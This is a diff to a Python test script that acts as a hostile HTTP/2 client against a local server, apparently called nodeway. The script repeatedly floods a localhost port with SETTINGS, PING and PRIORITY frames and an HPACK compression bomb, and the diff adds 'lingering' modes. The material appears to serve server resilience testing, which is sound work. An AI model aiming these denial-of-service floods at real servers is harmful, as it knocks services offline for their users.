@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""A hostile HTTP/2 client: floods the port until its connection is cut off, and comes back at once, until it is ended.
+"""A hostile client: floods the port until its connection is cut off, and comes back at once, until it is ended; or lingers.
 
     attacker.py ATTACK PORT
 
@@ -27,18 +27,15 @@ from frames import (
     SETTINGS,
     WINDOW_UPDATE,
     frame,
-    literal,
 )
-from h2load import AUTHORITY, METHOD
+from lingering import CALL, LINGERING, linger
 
 PRIORITY, CONTINUATION = 2, 9  # 6
 CANCEL = 8  # 7
 AT_ONCE = 200  # frames, or streams, in one write
 LAST_STREAM = 2**31 - 1
-FIELDS = ((":method", "POST"), (":scheme", "http"), (":authority", AUTHORITY), (":path", f"/{METHOD}"))
-HEAD = b"".join(literal(name.encode(), value.encode()) for name, value in FIELDS)
 # A literal that enters HPACK's table and fills it, then references to it: 64 KiB and more, in 2 KiB.
-BOMB = HEAD + b"\x40\x01x\x7f\xcd\x1d" + b"b" * 3916 + b"\xbe" * 2000
+BOMB = CALL + b"\x40\x01x\x7f\xcd\x1d" + b"b" * 3916 + b"\xbe" * 2000
 
 Writes = Iterator[bytes]
 
@@ -57,7 +54,7 @@ def each_stream(frames: Callable[[int], bytes], at_once: int = AT_ONCE) -> Write
 
 
 def request(stream: int, flags: int = END_HEADERS) -> bytes:
-    return frame(HEADERS, flags, stream, HEAD)
+    return frame(HEADERS, flags, stream, CALL)
 
 
 def behind(first: bytes, then: Writes) -> Writes:
@@ -65,7 +62,7 @@ def behind(first: bytes, then: Writes) -> Writes:
     yield from then
 
 
-ATTACKS: dict[str, Callable[[], Writes]] = {
+FLOODS: dict[str, Callable[[], Writes]] = {
     "SETTINGS": lambda: same(frame(SETTINGS, 0, 0)),
     "PING": lambda: same(frame(PING, 0, 0, bytes(8))),
     "PRIORITY": lambda: same(frame(PRIORITY, 0, 9, bytes(5))),
@@ -80,7 +77,10 @@ ATTACKS: dict[str, Callable[[], Writes]] = {
 }
 
 
-def attack(writes: Writes, port: int) -> None:
+ATTACKS = (*FLOODS, *LINGERING)
+
+
+def flood(writes: Writes, port: int) -> None:
     """Until the peer has had enough. Reads nothing of what it says."""
     # From an address of its own: to nodeway it is another caller than the one that behaves well.
     with socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0)) as peer:
@@ -91,10 +91,16 @@ def attack(writes: Writes, port: int) -> None:
 
 def main() -> None:
     name, port = sys.argv[1], int(sys.argv[2])
-    print(json.dumps({"attacks": port}), flush=True)
+
+    def tell() -> None:
+        print(json.dumps({"attacks": port}), flush=True)
+
+    if name in LINGERING:
+        linger(LINGERING[name], port, tell)
+    tell()
     while True:
         with contextlib.suppress(ConnectionError):
-            attack(ATTACKS[name](), port)
+            flood(FLOODS[name](), port)
 
 
 if __name__ == "__main__":
